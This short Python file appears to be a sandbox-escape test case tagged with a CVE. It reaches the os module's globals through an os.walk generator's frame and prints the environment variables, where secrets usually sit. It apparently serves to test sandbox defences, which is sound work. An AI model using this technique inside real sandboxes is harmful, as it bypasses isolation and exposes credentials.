"""Take the globals of a library's generator.

family: frames
canary: secret
stops: full, container
root: no
related: CVE-2025-68668
"""

import os

walker = os.walk(".")
print(walker.gi_frame.f_globals["environ"])
